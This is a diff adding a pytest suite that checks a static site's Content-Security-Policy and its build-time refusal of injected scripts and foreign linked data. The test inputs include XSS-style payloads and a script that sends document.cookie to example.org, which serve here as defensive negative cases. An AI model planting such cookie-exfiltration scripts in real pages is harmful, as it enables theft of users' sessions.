@@ -1,0 +1,193 @@
+"""Every page says what a browser may load and run; what is not ours never gets into a page."""
+
+from __future__ import annotations
+
+import re
+import socket
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
+from pathlib import Path
+
+import lxml.html
+import pytest
+from playwright.sync_api import Browser
+
+from macros.publish.swap import MARK
+from macros.website.adapter.content_policy import Refused, inline_scripts, protect, script_hash
+from tests.built.kinds import PAGES, ROOTS
+
+HEAD = '<!doctype html><html lang="en"><head><meta charset="utf-8">'
+POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
+EXPECTED = {
+    "default-src": ["'none'"],
+    "style-src": ["'self'"],
+    "img-src": ["'self'", "data:"],
+    "font-src": ["'self'"],
+    "connect-src": ["'self'"],
+    "worker-src": ["'self'"],
+    "base-uri": ["'none'"],
+    "form-action": ["'none'"],
+}
+
+
+def directives(source: str) -> dict[str, list[str]]:
+    policies = POLICY.findall(source)
+    assert len(policies) == 1
+    return {name: values for name, *values in (part.split() for part in policies[0].split(";"))}
+
+
+def test_every_page_has_the_policy_before_anything_that_it_governs(site: Path):
+    for path in site.rglob("*.html"):
+        source = path.read_text(encoding="utf-8")
+        found = directives(source)
+        scripts = found.pop("script-src")
+        assert found == EXPECTED, path
+        assert scripts == ["'self'", *sorted({script_hash(script) for script in inline_scripts(source)})], path
+        before_policy = source[: source.index("Content-Security-Policy")]
+        assert not re.search(r"<(link|script|style|img)\b", before_policy), path
+
+
+def test_no_page_holds_styles_or_handlers_of_its_own(site: Path):
+    for root in ROOTS:
+        for path in PAGES:
+            tree = lxml.html.parse(str(site / root / path / "index.html"))
+            assert tree.xpath("//@style | //style | //iframe | //object | //embed | //base") == [], path
+            assert [name for e in tree.iter() for name in e.attrib if name.startswith("on")] == [], path
+            assert tree.xpath("//@href[starts-with(normalize-space(.), 'javascript:')]") == [], path
+
+
+def test_the_browser_refuses_what_the_policy_does_not_name(address: str, browser: Browser):
+    page = browser.new_page()
+    refused: list[str] = []
+    page.on("console", lambda message: refused.append(message.text))
+    page.goto(f"{address}en/countries/jp/")
+    assert refused == []
+    page.evaluate("""() => {
+      const script = document.createElement("script");
+      script.textContent = "document.title = 'taken over'";
+      document.body.append(script);
+      document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='x()'>x</p>");
+      const image = new Image();
+      image.src = "https://example.org/x.png";
+    }""")
+    page.wait_for_timeout(200)
+    assert page.title() != "taken over"
+    assert sum("Content Security Policy" in text for text in refused) >= 3, refused
+    page.close()
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT>alert(1)</SCRIPT >",
+        '<script type="module">alert(1)</script>',
+        '<script type="importmap">{}</script>',
+        # One of the theme's, with something put behind it or in place of the address that its template leaves open.
+        '<script>__md_scope=new URL(".",location);alert(1)</script>',
+        "<script>var target=document.getElementById(location.hash.slice(1));alert(target)</script>",
+    ],
+)
+def test_a_script_that_is_not_the_themes_is_refused(script: str):
+    with pytest.raises(Refused, match="not the theme"):
+        protect(f"{HEAD}</head><body>{script}</body></html>")
+
+
+def test_data_and_files_of_the_site_are_no_inline_scripts():
+    page = f'{HEAD}<script type="application/json">{{"a": 1}}</script><script src="a.js"></script></head></html>'
+    assert directives(protect(page))["script-src"] == ["'self'"]
+
+
+OURS = '<script type="application/ld+json">{"@context":"https://schema.org","@graph":[]}</script>'
+
+
+def test_linked_data_of_ours_stands_in_the_head_and_needs_no_hash():
+    assert directives(protect(f"{HEAD}{OURS}</head><body></body></html>"))["script-src"] == ["'self'"]
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        f"{HEAD}</head><body>{OURS}</body></html>",
+        f"{HEAD}{OURS}{OURS}</head><body></body></html>",
+        f"{HEAD}{OURS}</head><body>{OURS}</body></html>",
+        f'{HEAD}{OURS}</head><body><SCRIPT id="a" type=application/LD+JSON>{{}}</SCRIPT></body></html>',
+        f'{HEAD}<script type="application/ld+json">{{"@context":"https://example.org"}}</script></head></html>',
+        f'{HEAD}<script type="application/ld&#43;json">{{}}</script></head></html>',
+        f'{HEAD}<script type="application/ld+json" src="https://example.org/x"></script></head></html>',
+    ],
+)
+def test_linked_data_that_is_not_ours_is_refused(page: str):
+    with pytest.raises(Refused):
+        protect(page)
+
+
+def test_injected_linked_data_stops_the_build(project_copy: Path, build):
+    with (project_copy / "docs" / "en" / "about.md").open("a") as file:
+        file.write('\n<script type="application/ld+json">{"@type": "GovernmentOrganization"}</script>\n')
+    result = build(project_copy)
+    assert result.returncode == 1
+    assert "en/about/index.html: dữ liệu liên kết lạ trong trang" in result.stderr
+
+
+def test_a_page_without_a_place_for_the_policy_is_refused():
+    with pytest.raises(Refused):
+        protect("<html><head><title>x</title></head></html>")
+
+
+def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy: Path, build):
+    old = project_copy / "site"
+    (old / MARK).parent.mkdir(parents=True)
+    (old / MARK).touch()
+    (old / "index.html").write_text("old")
+    with (project_copy / "docs" / "en" / "about.md").open("a") as file:
+        file.write("\n<script>fetch('https://example.org/?' + document.cookie)</script>\n")
+
+    result = build(project_copy)
+
+    assert result.returncode == 1
+    assert "en/about/index.html: mã lạ trong trang" in result.stderr
+    assert (old / "index.html").read_text() == "old"
+
+
+def served(home: str, seconds: float = 60) -> str:
+    """The home page of a server that is still building its first site."""
+    end = time.monotonic() + seconds
+    while True:
+        try:
+            with urllib.request.urlopen(home) as answer:
+                return str(answer.read().decode())
+        except urllib.error.URLError:
+            if time.monotonic() > end:
+                raise
+            time.sleep(0.2)
+
+
+def test_the_local_server_still_reloads_pages(project_copy: Path, monkeypatch: pytest.MonkeyPatch, browser: Browser):
+    monkeypatch.setenv("AS_OF", "2026-11-21")
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    command = [sys.executable, str(project_copy / "scripts" / "serve.py"), "--port", str(port)]
+    server = subprocess.Popen(command, cwd=project_copy, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    page = browser.new_page()
+    try:
+        home = f"http://127.0.0.1:{port}/"
+        assert "livereload" in served(home)
+        said: list[tuple[str, str]] = []
+        page.on("console", lambda message: said.append((message.type, message.text)))
+        page.goto(home, wait_until="load")
+        page.wait_for_timeout(300)
+        assert ("log", "Enabled live reload") in said
+        assert [text for kind, text in said if kind == "error"] == []
+    finally:
+        page.close()
+        server.terminate()
+        server.wait(timeout=20)
+    # Serving changes nothing of what is published, and the pages on disk are as a build leaves them.
+    assert not (project_copy / "site").exists()
+    built = project_copy / ".build" / "preview" / "site" / "index.html"
+    assert "livereload" not in built.read_text(encoding="utf-8")
